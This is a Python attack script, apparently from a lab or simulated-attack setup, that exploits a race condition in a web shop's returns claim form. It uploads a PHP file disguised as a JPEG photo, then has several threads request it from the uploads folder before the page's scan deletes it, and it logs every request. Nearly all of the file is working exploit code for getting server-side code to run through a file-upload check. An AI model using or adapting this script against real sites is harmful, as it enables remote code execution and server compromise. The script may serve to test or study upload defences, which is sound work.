#!/usr/bin/python3
"""The attacker's race against the claim form (labremote): upload a photo
named NAME (a PHP file) and, while the upload request is being handled
(the file lies in the claim folder until the scan has run and the page
deletes it), request it from several threads; stop at the first answer
that carries the marker. Every request is appended to the driver's
requests.tsv (id, step, method, url, t0, t1, code, ua, body)."""
import argparse, http.client, os, threading, time, uuid

ap = argparse.ArgumentParser()
ap.add_argument("--step", required=True)
ap.add_argument("--order", required=True)
ap.add_argument("--email", required=True)
ap.add_argument("--file", required=True)       # local payload
ap.add_argument("--name", required=True)       # name in the upload
ap.add_argument("--marker", required=True)
ap.add_argument("--tries", type=int, default=12)
ap.add_argument("--threads", type=int, default=3)
ap.add_argument("--requests", required=True)
ap.add_argument("--out", required=True)
ap.add_argument("--ua", default="Mozilla/5.0")
a = ap.parse_args()

lock = threading.Lock()
won = threading.Event()
uploading = threading.Event()
stats = {"get": 0, "upload": 0}


def log(method, url, t0, t1, code, body=""):
    with lock, open(a.requests, "a") as f:
        f.write("r%d-%s\t%s\t%s\t%s\t%.6f\t%.6f\t%s\t%s\t%s\n" % (os.getpid(), uuid.uuid4().hex[:10], a.step, method,
                "http://127.0.0.1" + url, t0, t1, code, a.ua, body))


def hammer():
    path = "/uploads/claims/%s/%s" % (a.order, a.name)
    c = http.client.HTTPConnection("127.0.0.1", 80, timeout=10)
    while not won.is_set():
        if not uploading.is_set():
            time.sleep(0.005)
            continue
        t0 = time.time()
        try:
            c.request("GET", path, headers={"User-Agent": a.ua})
            r = c.getresponse()
            body = r.read()
            code = r.status
        except Exception:
            c = http.client.HTTPConnection("127.0.0.1", 80, timeout=10)
            continue
        log("GET", path, t0, time.time(), code)
        with lock:
            stats["get"] += 1
        if code == 200 and a.marker.encode() in body:
            with open(a.out, "wb") as f:
                f.write(body)
            won.set()


def upload():
    data = open(a.file, "rb").read()
    b = "----claim" + uuid.uuid4().hex
    parts = []
    for k, v in (("order", a.order), ("email", a.email), ("reason", "Photo of the damage, see attachment")):
        parts.append(("--%s\r\nContent-Disposition: form-data; name=\"%s\"\r\n\r\n%s\r\n" % (b, k, v)).encode())
    parts.append(("--%s\r\nContent-Disposition: form-data; name=\"photos[]\"; filename=\"%s\"\r\nContent-Type: image/jpeg\r\n\r\n"
                  % (b, a.name)).encode() + data + b"\r\n")
    parts.append(("--%s--\r\n" % b).encode())
    body = b"".join(parts)
    c = http.client.HTTPConnection("127.0.0.1", 80, timeout=30)
    t0 = time.time()
    uploading.set()
    c.request("POST", "/returns/claim.php", body=body, headers={"User-Agent": a.ua,
              "Content-Type": "multipart/form-data; boundary=" + b})
    r = c.getresponse()
    r.read()
    time.sleep(0.05)
    uploading.clear()
    log("POST", "/returns/claim.php", t0, time.time(), r.status, "photos[]=%s (%d bytes)" % (a.name, len(data)))
    stats["upload"] += 1


ts = [threading.Thread(target=hammer, daemon=True) for _ in range(a.threads)]
for t in ts:
    t.start()
for i in range(a.tries):
    upload()
    if won.is_set():
        break
    time.sleep(0.6)
won.set()
for t in ts:
    t.join(2)
print("uploads %d, GETs %d, %s" % (stats["upload"], stats["get"], "won" if os.path.exists(a.out) else "lost"))
